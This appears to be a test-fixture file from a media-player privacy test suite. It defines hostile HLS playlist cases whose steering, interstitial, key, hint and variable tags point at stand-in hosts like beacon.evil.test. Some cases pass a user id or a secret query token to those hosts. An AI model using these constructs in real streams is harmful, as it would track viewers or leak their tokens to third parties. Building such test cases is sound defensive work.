import { hlsAnswer, type HostileCase } from '../case.js';
import { multivariantPlaylist, mediaPlaylist } from '../manifests/hls.js';

const mediaPlaylistUrl = '/case/media.m3u8';

/** Returns a case with a line in a multivariant playlist, before a variant on our own host. */
const multivariantCase = (
  name: string,
  catalogueRow: string,
  line: string,
  constructs: string[],
  overrides: Partial<HostileCase> = {}
): HostileCase => ({
  name,
  catalogueRow,
  src: '/case/master.m3u8',
  files: { '/case/master.m3u8': hlsAnswer(multivariantPlaylist(line)) },
  playsToSeconds: 1.5,
  constructs,
  ...overrides
});

/** Returns a case with a line in a media playlist, before its second segment. */
const mediaPlaylistCase = (
  name: string,
  catalogueRow: string,
  line: string,
  constructs: string[],
  overrides: Partial<HostileCase> = {}
): HostileCase => ({
  name,
  catalogueRow,
  src: mediaPlaylistUrl,
  files: { [mediaPlaylistUrl]: hlsAnswer(mediaPlaylist({ beforeSecondSegment: line })) },
  playsToSeconds: 2.5,
  constructs,
  ...overrides
});

const dateRange = '#EXT-X-DATERANGE:ID="ad1",CLASS="com.apple.hls.interstitial",START-DATE="2026-01-01T00:00:01.000Z",DURATION=4';
const assetList = JSON.stringify({ ASSETS: [{ URI: 'https://ad.evil.test/media/cmaf/master.m3u8', DURATION: 4 }] });
const steeringWithClones = JSON.stringify({
  VERSION: 1,
  TTL: 1,
  'RELOAD-URI': 'https://reload.evil.test/s.json',
  'PATHWAY-PRIORITY': ['clone', '.'],
  'PATHWAY-CLONES': [{ 'BASE-ID': '.', ID: 'clone', 'URI-REPLACEMENT': { HOST: 'clone.evil.test', PARAMS: { u: '42' } } }]
});

export const hlsTracking: readonly HostileCase[] = [
  multivariantCase(
    'content steering from another host',
    'hls-steering',
    '#EXT-X-CONTENT-STEERING:SERVER-URI="https://steer.evil.test/s.json",PATHWAY-ID="."',
    ['hls-steering']
  ),
  multivariantCase(
    'content steering from our host, with clones on other hosts',
    'hls-steering',
    '#EXT-X-CONTENT-STEERING:SERVER-URI="/case/steer.json",PATHWAY-ID="."',
    ['hls-steering'],
    {
      files: {
        '/case/master.m3u8': hlsAnswer(multivariantPlaylist('#EXT-X-CONTENT-STEERING:SERVER-URI="/case/steer.json",PATHWAY-ID="."')),
        '/case/steer.json': { body: steeringWithClones, type: 'application/json' }
      }
    }
  ),
  mediaPlaylistCase(
    'an interstitial on another host',
    'hls-interstitial-uri',
    `${dateRange},X-ASSET-URI="https://ad.evil.test/media/cmaf/master.m3u8"`,
    ['hls-interstitial']
  ),
  mediaPlaylistCase(
    'a list of interstitials on another host',
    'hls-interstitial-list',
    `${dateRange},X-ASSET-LIST="https://adlist.evil.test/l.json"`,
    ['hls-interstitial']
  ),
  mediaPlaylistCase(
    'a list of interstitials on our host that names another',
    'hls-interstitial-list',
    `${dateRange},X-ASSET-LIST="/case/l.json"`,
    ['hls-interstitial'],
    {
      files: {
        [mediaPlaylistUrl]: hlsAnswer(mediaPlaylist({ beforeSecondSegment: `${dateRange},X-ASSET-LIST="/case/l.json"` })),
        '/case/l.json': { body: assetList, type: 'application/json' }
      }
    }
  ),
  mediaPlaylistCase(
    'a date range with a beacon URL in a custom attribute',
    'hls-not-fetched',
    '#EXT-X-DATERANGE:ID="b",START-DATE="2026-01-01T00:00:01.000Z",X-COM-EXAMPLE-BEACON="https://beacon.evil.test/b?u=42"',
    ['hls-date-range-url']
  ),
  multivariantCase(
    'session data on another host',
    'hls-not-fetched',
    '#EXT-X-SESSION-DATA:DATA-ID="com.example.title",URI="https://data.evil.test/title.json"',
    ['hls-session-data']
  ),
  multivariantCase(
    'a session key on another host',
    'hls-not-fetched',
    '#EXT-X-SESSION-KEY:METHOD=AES-128,URI="https://key.evil.test/k?u=42"',
    ['hls-key']
  ),
  multivariantCase(
    'an I-frame playlist on another host',
    'hls-not-fetched',
    '#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=10000,CODECS="avc1.4d4015",RESOLUTION=426x240,URI="https://iframe.evil.test/media/cmaf/video-240.m3u8"',
    ['hls-trick-play']
  ),
  multivariantCase(
    'an image playlist on another host',
    'hls-not-fetched',
    '#EXT-X-IMAGE-STREAM-INF:BANDWIDTH=10000,RESOLUTION=160x90,CODECS="jpeg",URI="https://image.evil.test/i.m3u8"',
    ['hls-trick-play']
  ),
  mediaPlaylistCase(
    'a preload hint on another host',
    'hls-not-fetched',
    '#EXT-X-PRELOAD-HINT:TYPE=PART,URI="https://hint.evil.test/p.m4s"',
    ['hls-hint']
  ),
  mediaPlaylistCase(
    'a rendition report on another host',
    'hls-not-fetched',
    '#EXT-X-RENDITION-REPORT:URI="https://report.evil.test/r.m3u8",LAST-MSN=1',
    ['hls-hint']
  ),
  {
    name: 'a partial segment on another host, at the end of ours',
    catalogueRow: 'hls-not-fetched',
    src: mediaPlaylistUrl,
    files: {
      [mediaPlaylistUrl]: hlsAnswer(
        mediaPlaylist({ tail: '#EXT-X-PART-INF:PART-TARGET=1\n#EXT-X-PART:DURATION=1,URI="https://part.evil.test/p.m4s"' })
      )
    },
    playsToSeconds: 1,
    constructs: ['hls-hint']
  },
  {
    name: 'a variable filled from the query of the URL, sent to another host',
    catalogueRow: 'hls-define-query',
    src: '/case/master.m3u8?t=SECRET',
    files: {
      '/case/master.m3u8': hlsAnswer(
        multivariantPlaylist('#EXT-X-DEFINE:QUERYPARAM="t"', 'https://var.evil.test/media/cmaf/video-240.m3u8?t={$t}')
      )
    },
    constructs: ['hls-define', 'hls-variant']
  },
  {
    name: 'a variable filled from the query of the URL, put into the host name',
    catalogueRow: 'hls-define-query',
    src: '/case/master.m3u8?t=cdn.evil.test',
    files: {
      '/case/master.m3u8': hlsAnswer(multivariantPlaylist('#EXT-X-DEFINE:QUERYPARAM="t"', 'https://{$t}/media/cmaf/video-240.m3u8'))
    },
    constructs: ['hls-define']
  },
  {
    name: 'a variable imported from the multivariant playlist by the media playlist',
    catalogueRow: 'hls-define-query',
    src: '/case/master.m3u8',
    files: {
      '/case/master.m3u8': hlsAnswer(multivariantPlaylist('#EXT-X-DEFINE:NAME="host",VALUE="cdn.evil.test"', 'media.m3u8')),
      '/case/media.m3u8': hlsAnswer(
        mediaPlaylist({ head: '#EXT-X-DEFINE:IMPORT="host"', segmentUrls: { 1: 'https://{$host}/media/cmaf/video-240/1.m4s' } })
      )
    },
    blocked: ['segment'],
    constructs: ['hls-define']
  },
  {
    name: 'a variable whose value contains another one, as the host name',
    catalogueRow: 'hls-define-query',
    src: '/case/master.m3u8',
    files: {
      '/case/master.m3u8': hlsAnswer(
        multivariantPlaylist(
          '#EXT-X-DEFINE:NAME="domain",VALUE="evil.test"\n#EXT-X-DEFINE:NAME="host",VALUE="var.{$domain}"',
          'https://{$host}/media/cmaf/video-240.m3u8'
        )
      )
    },
    blocked: ['manifest'],
    constructs: ['hls-define', 'hls-variant']
  }
];
